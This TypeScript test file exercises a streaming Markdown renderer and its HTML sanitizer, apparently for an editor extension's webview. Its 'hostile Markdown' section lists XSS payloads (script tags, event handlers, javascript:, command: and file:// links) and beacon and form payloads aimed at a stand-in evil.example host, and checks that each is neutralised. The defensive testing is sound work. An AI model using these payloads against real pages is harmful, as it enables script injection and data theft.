import assert from 'node:assert/strict';
import './dom';
import { markdown } from '../../src/webview/markdown/renderer';
import { sanitize } from '../../src/webview/markdown/sanitize';
import { MarkdownStream } from '../../src/webview/markdown/stream';
import { compareRandomTexts } from './random-markdown';
import { streamed, whole, withoutSections } from './streamed';

/** How many characters the parser is given while something runs. */
function counted(run: () => void): number {
  let characters = 0;
  const parse = markdown.parse.bind(markdown);
  markdown.parse = (text, environment) => {
    characters += text.length;
    return parse(text, environment);
  };
  try {
    run();
  } finally {
    markdown.parse = parse;
  }
  return characters;
}

const texts = {
  'an answer': `In src/a.js:3 I see one thing.

## SELECT * in code

**warning** · \`database/select-star\`

### Issue

\`src/a.js:3\` — It reads \`*\`.

\`\`\`js
const a = 1;

## no heading
\`\`\`

### Root cause

Text *with* emphasis.

### Trade-off

1. one

2. two
   - nested

   more

| a | b |
|---|---|
| 1 | 2 |

> quoted
lazily
`,
  'a loose list whose next item looks like a paragraph': '1. a\n\n2. b\n\n10. c\n\ntext',
  'a setext heading': 'Title\n===\n\ntext\n---\n',
  'an open fence': 'text\n\n```sql\nSELECT 1\n\n## x',
  'tilde fences and longer fences': '~~~\na\n```\n~~~\n\n````\n```\n````\nend',
  'indented code': 'a\n\n    code\n\n    more\n\nb',
  'a list, then indented code': '- a\n\n      code\n\n- b\n\nc',
  'html that is text': '<div>\n\n**a**\n\n</div>\n\n<b>x',
  'windows line ends': 'a\r\n\r\n- b\r\n- c\r\n\r\nd',
  'nothing but space': '\n\n  \n',
  'definitions, which are left alone': '[x]: http://a.b\n\nsee [x]\n',
};

describe('streamed Markdown', () => {
  for (const [name, text] of Object.entries(texts)) {
    it(`is the same in any pieces: ${name}`, () => {
      const once = streamed([text]);
      assert.equal(streamed([...text]), once, 'letter by letter');
      const stride = Math.ceil(text.length / 60);
      for (let cut = 1; cut < text.length; cut += stride) {
        assert.equal(streamed([text.slice(0, cut), text.slice(cut)]), once, `cut at ${cut}`);
      }
    });

    it(`is the same as rendered whole: ${name}`, () => {
      assert.equal(withoutSections(streamed([...text])), withoutSections(whole(text)).replace(/\r/g, ''));
    });
  }

  it('is the same for random texts in random pieces', () => compareRandomTexts(3, 20));

  it('leaves blocks alone that are over', () => {
    const root = document.createElement('div');
    const stream = new MarkdownStream(root);
    stream.append('First.\n\nSecond\n');
    const [first, second] = root.children;
    stream.append('goes on.\n\nThird.');
    assert.ok(root.children[0] === first);
    assert.ok(root.children[1] !== second);
    assert.match(root.textContent ?? '', /Second\ngoes on\./);
  });

  it('parses no more than what it is given and the block that is open', () => {
    const parsed = counted(() => {
      const stream = new MarkdownStream(document.createElement('div'));
      for (let i = 0; i < 100; i++)
        for (const piece of ['Paragraph ', String(i), ' ends.\n\n']) stream.append(piece);
      stream.end();
    });
    // Each paragraph is some 20 characters and comes in 3 pieces. Were all text parsed for each piece, it would be 300 times 1000.
    assert.ok(parsed < 100 * 20 * 12, `${parsed} characters parsed`);
  });

  it('costs twice as much for twice as long an answer', () => {
    const costOf = (paragraphs: number): number =>
      counted(() => {
        const stream = new MarkdownStream(document.createElement('div'));
        for (let i = 0; i < paragraphs; i++) stream.append('Some words, and *more* of them.\n\n');
      });
    assert.ok(costOf(80) < 2.2 * costOf(40), `${costOf(40)}, ${costOf(80)}`);
  });

  it('puts the five parts into sections', () => {
    const root = document.createElement('div');
    const stream = new MarkdownStream(root);
    stream.append('### Issue\n\na\n\n### Trade-off\n\nb\n\n## Next\n\nc');
    stream.end();
    const sections = [...root.children].map((child) => child.className || child.tagName);
    assert.deepEqual(sections, ['part part-issue', 'part part-trade-off', 'H2', 'P']);
  });
});

describe('places', () => {
  const links = (text: string): string[] => {
    const root = document.createElement('div');
    root.innerHTML = streamed([text]);
    return [...root.querySelectorAll<HTMLElement>('.place')].map((link) => link.dataset.place ?? '');
  };

  for (const [text, expected] of [
    ['see `src/a.ts:12`', ['src/a.ts:12']],
    ['see src/a.ts:12-30, and b.sql:3.', ['src/a.ts:12-30', 'b.sql:3']],
    ['`app/[id]/my page.tsx:4–9`', ['app/[id]/my page.tsx:4–9']],
    ['`src/routes/tickets.js`', ['src/routes/tickets.js']],
    ['`res.json` and `a.js` and tickets.js', []],
    ['`12:30` http://x.y/a.js:80 C:\\a.js:3x', []],
    ['[a.js:1](https://x.y)', []],
    ['**src/a.ts:1**', ['src/a.ts:1']],
  ] as const) {
    it(`in "${text}": ${expected.join(', ') || 'none'}`, () => assert.deepEqual(links(text), expected));
  }
});

describe('rules', () => {
  it('are links by their ids', () => {
    assert.match(streamed(['`database/select-star`']), /data-rule="database\/select-star"/);
    assert.doesNotMatch(streamed(['`src/tickets` `a/b` `database/select-star.js`']), /data-rule/);
  });
});

describe('hostile Markdown', () => {
  const attacks = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '![beacon](https://evil.example/?q=secret)',
    '![x](data:image/svg+xml;base64,PHN2Zz4=)',
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt:alert(1))',
    '[a](java\nscript:alert(1))',
    '[a](&#106;avascript:alert(1))',
    '[a](command:workbench.action.terminal.new)',
    '[a](vscode://x/y)',
    '[a](file:///etc/passwd)',
    '[a](data:text/html,<script>alert(1)</script>)',
    '<javascript:alert(1)>',
    '<command:x>',
    '[a](https://ok.example "onmouseover=alert(1)")',
    '[a](https://ok.example" onmouseover="alert(1))',
    '```js" onclick="alert(1)\nx\n```',
    '```<script>\n</code></pre><script>alert(1)</script>\n```',
    '`a.js:1" onclick="alert(1)`',
    '`<img src=x onerror=alert(1)>/a.js:1`',
    '<iframe src=https://evil.example></iframe>',
    '<svg onload=alert(1)>',
    '<style>*{background:url(https://evil.example)}</style>',
    '<a href="javascript:alert(1)">x</a>',
    '| a |\n|:-:|\n| <b onclick=alert(1)> |',
    '[x]: javascript:alert(1)\n\n[x]',
    '<form action=https://evil.example><input name=a></form>',
    '<button formaction=https://evil.example>x</button>',
  ];

  for (const attack of attacks) {
    for (const pieces of [[attack], [...attack]]) {
      it(`is harmless, in ${pieces.length === 1 ? 'one piece' : 'letters'}: ${JSON.stringify(attack)}`, () => {
        const root = document.createElement('div');
        const stream = new MarkdownStream(root);
        for (const piece of pieces) {
          stream.append(piece);
          assertHarmless(root);
        }
        stream.end();
        assertHarmless(root);
      });
    }
  }

  it('is harmless also when the renderer lets it through', () => {
    const root = document.createElement('div');
    for (const attack of attacks) root.append(sanitize(attack));
    root.append(sanitize('<span class="place" data-place="a.js:1" onclick="alert(1)" style="x">a</span>'));
    assertHarmless(root);
  });

  it('keeps ordinary links, and names pictures', () => {
    assert.match(streamed(['[a](https://ok.example/x)']), /<a href="https:\/\/ok\.example\/x">a<\/a>/);
    assert.match(streamed(['![a chart](https://x.y/z.png)']), /\[picture left out: a chart\]/);
  });

  const tags =
    'A BLOCKQUOTE BR CODE DEL EM H1 H2 H3 H4 H5 H6 HR LI OL P PRE S SECTION SPAN STRONG TABLE TBODY TD TH THEAD TR UL WBR'.split(
      ' ',
    );
  const attributes = [
    'class',
    'data-place',
    'data-rule',
    'href',
    'start',
    'title',
    'role',
    'tabindex',
    'aria-label',
  ];

  function assertHarmless(root: HTMLElement): void {
    for (const element of root.querySelectorAll('*')) {
      assert.ok(tags.includes(element.tagName), element.outerHTML);
      for (const { name } of element.attributes) assert.ok(attributes.includes(name), element.outerHTML);
      const href = element.getAttribute('href');
      if (href !== null) assert.match(href, /^https?:\/\//);
    }
  }
});
